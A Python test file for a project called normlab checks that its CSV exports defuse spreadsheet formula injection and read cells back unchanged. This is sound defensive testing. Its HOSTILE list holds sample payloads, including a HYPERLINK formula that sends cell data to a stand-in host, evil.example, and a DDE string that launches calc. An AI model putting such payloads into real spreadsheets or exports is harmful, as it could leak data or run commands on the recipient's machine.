"""CSV injection (issue 32, item 5): every CSV normlab writes for a spreadsheet neutralises a
cell that would start a formula, as OWASP's CSV Injection page recommends, and reads it back
to the very text it was given."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from normlab.core.csvio import (
    FORMULA_STARTS,
    KeyRow,
    SpreadsheetWriter,
    cell_text,
    csv_rows,
    spreadsheet_cell,
    write_blind,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already marked",
    "''",
    "a;=1+1",  # a ; would start a new cell where ; is the separator
]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        # OWASP: "ensure that no cells begin with = + - @ tab or carriage return";
        # prepending ' makes the spreadsheet show the cell as text.
        ("=1+2", "'=1+2"),
        ("+1 agree", "'+1 agree"),
        ("- signed, mod", "'- signed, mod"),
        ("@mod please", "'@mod please"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        # A plain number starts no formula: left as the number it is.
        ("-1", "-1"),
        ("+2.5", "+2.5"),
        # A cell that already reads as marked gets one more ', so reading takes off exactly one.
        ("'=x", "''=x"),
        ("''", "'''"),
        # Anything else is left alone, a lone ' and an apostrophe at the start included.
        ("'tis", "'tis"),
        ("'", "'"),
        ("", ""),
        ("plain = text", "plain = text"),
    ],
)
def test_each_formula_start_by_hand(text: str, cell: str) -> None:
    assert spreadsheet_cell(text) == cell
    assert cell_text(cell) == text


@given(st.text())
def test_reading_gives_back_what_was_written(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert cell_text(cell) == text
    assert not cell or cell[0] not in FORMULA_STARTS or float(cell) == float(text)


@given(st.lists(st.text(alphabet=st.sampled_from("=+-@'\t\r;,\"\n ab1é")), min_size=1))
def test_a_written_csv_reads_back_cell_for_cell(texts: list[str]) -> None:
    handle = io.StringIO(newline="")
    writer = SpreadsheetWriter(handle, ["item_id", "text"])
    writer.writeheader()
    writer.writerows({"item_id": f"i{n}", "text": text} for n, text in enumerate(texts))
    rows = list(csv.DictReader(io.StringIO(handle.getvalue(), newline="")))
    assert [cell_text(row["text"]) for row in rows] == texts


def test_a_blind_export_is_quoted_and_marked_and_reads_back(tmp_path: Path) -> None:
    out = tmp_path / "sheet.csv"
    items = [({"text": text}, KeyRow(item_id=f"i{n}")) for n, text in enumerate(HOSTILE)]
    write_blind(out, ["item_id", "text", "answer"], items)
    raw = list(csv.reader(io.StringIO(out.read_text("utf-8"), newline="")))
    for row in raw[1:]:
        assert row[1][:1] not in FORMULA_STARTS, row
    # Every cell quoted: a ; inside one can start no cell in a ;-separated spreadsheet.
    first = out.read_text("utf-8").splitlines()[1]
    assert first.startswith('"i0","\'=HYPERLINK(')
    assert [row["text"] for _, row in csv_rows(out, ("text",))] == HOSTILE
    marked = [row["text"] for _, row in csv_rows(out, ("text",), written_by_normlab=False)]
    assert marked[0] == "'" + HOSTILE[0]
